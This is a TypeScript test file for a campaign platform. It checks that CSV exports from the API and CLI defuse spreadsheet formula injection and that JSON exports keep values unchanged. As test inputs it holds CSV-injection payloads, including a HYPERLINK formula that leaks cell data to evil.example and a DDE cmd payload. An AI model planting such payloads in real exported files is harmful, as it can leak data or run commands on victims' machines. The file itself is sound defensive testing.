/**
 * Exports (API and CLI) neutralise spreadsheet formulas: a contact named `=HYPERLINK(…)` or `@SUM(…)` comes
 * out with a leading apostrophe in CSV (OWASP, "CSV Injection"), and unchanged in JSON.
 */
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { setTimeout as delay } from 'node:timers/promises';
import { after, before, describe, it } from 'node:test';
import { parse } from 'csv-parse/sync';
import { exportCommand } from '../src/cli/run-commands';
import { getProgress } from '../src/campaign/run-queries';
import { Client } from '@temporalio/client';
import type { RunningHttpServer } from '../src/http/serve';
import { buildHttpServer } from '../src/http/server';
import { contact, startStackHttp, startTestStack, type TestStack } from './helpers/stack';

const KEY = 'key_export_0123456789';
const EVIL = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
  '@SUM(1+1)',
  '+cmd|"/c calc"!A1',
  '-2+3',
];

describe('CSV exports neutralise formula cells', () => {
  let stack: TestStack;
  let api: RunningHttpServer;
  let runId: string;

  before(async () => {
    stack = await startTestStack();
    api = await startStackHttp(stack, {
      api: {
        keys: [{ key: KEY, space: 'space_test', user: 'u' }],
        defaultAccount: 'acct_x',
        defaultPipeId: 'pipe_test',
        defaultRegion: 'US',
      },
    });
    runId = await stack.run(
      EVIL.map((name, i) => contact(`+141555502${String(i).padStart(2, '0')}`, i + 2, { name })),
    );
    const deadline = Date.now() + 60_000;
    while ((await getProgress(stack.env.client, runId)).state !== 'completed') {
      assert.ok(Date.now() < deadline, 'the run completes');
      await delay(200);
    }
  });
  after(async () => {
    await api?.close();
    await stack?.close();
  });

  const names = (csv: string) =>
    (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.name).sort();
  const expected = EVIL.map((n) => `'${n}`).sort();

  it('GET …/export/?format=csv', async () => {
    const res = await fetch(`${api.url}/api/v2/platform/spaces/space_test/runs/${runId}/export/?format=csv`, {
      headers: { authorization: `Token ${KEY}` },
    });
    assert.equal(res.status, 200);
    const csv = await res.text();
    assert.deepEqual(names(csv), expected);
    const phones = (parse(csv, { columns: true }) as Record<string, string>[]).map((r) => r.phone ?? '');
    assert.ok(
      phones.every((p) => p.startsWith('+1415')),
      'E.164 numbers are left as they are',
    );
  });

  it('GET …/export/?format=json keeps the values as they are', async () => {
    const res = await fetch(
      `${api.url}/api/v2/platform/spaces/space_test/runs/${runId}/export/?format=json`,
      {
        headers: { authorization: `Token ${KEY}` },
      },
    );
    const rows = (await res.json()) as { name: string }[];
    assert.deepEqual(rows.map((r) => r.name).sort(), [...EVIL].sort());
  });

  it('a task page reads only the listing it shows, not every task of the run', async () => {
    const many = await stack.run(
      Array.from({ length: 12 }, (_, i) => contact(`+141555503${String(i).padStart(2, '0')}`, i + 2)),
    );
    const deadline = Date.now() + 60_000;
    while ((await getProgress(stack.env.client, many)).state !== 'completed') {
      assert.ok(Date.now() < deadline, 'the run completes');
      await delay(200);
    }
    await delay(1500); // visibility catches up
    // A client of its own whose visibility listing counts what it hands out.
    const client = new Client({ connection: stack.env.client.connection, namespace: 'default' });
    let listed = 0;
    const list = client.workflow.list.bind(client.workflow);
    client.workflow.list = (options) => {
      const it = list(options);
      return Object.assign(
        (async function* () {
          for await (const info of it) {
            listed++;
            yield info;
          }
        })(),
        { intoHistories: it.intoHistories.bind(it) },
      ) as unknown as ReturnType<typeof list>;
    };
    const app = await buildHttpServer({
      temporal: client,
      taskQueue: stack.taskQueue,
      api: {
        keys: [{ key: KEY, space: 'space_test', user: 'u' }],
        defaultAccount: 'acct_x',
        defaultPipeId: 'pipe_test',
        defaultRegion: 'US',
      },
    });
    try {
      const res = await app.inject({
        method: 'GET',
        url: `/api/v2/platform/spaces/space_test/runs/${many}/tasks/?page=2&page_size=2`,
        headers: { authorization: `Token ${KEY}` },
      });
      assert.equal(res.statusCode, 200, res.body);
      const body = res.json<{ count: number; data: unknown[] }>();
      assert.equal(body.count, 12);
      assert.equal(body.data.length, 2);
      assert.ok(listed <= 4, `read ${listed} listing entries for page 2 of size 2`);
    } finally {
      await app.close();
    }
  });

  it('unpod-campaigns export --format csv', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'sec-export-'));
    try {
      const out = path.join(dir, 'x.csv');
      await exportCommand(stack.env.client, runId, { format: 'csv', out });
      assert.deepEqual(names(fs.readFileSync(out, 'utf8')), expected);
    } finally {
      fs.rmSync(dir, { recursive: true, force: true });
    }
  });
});
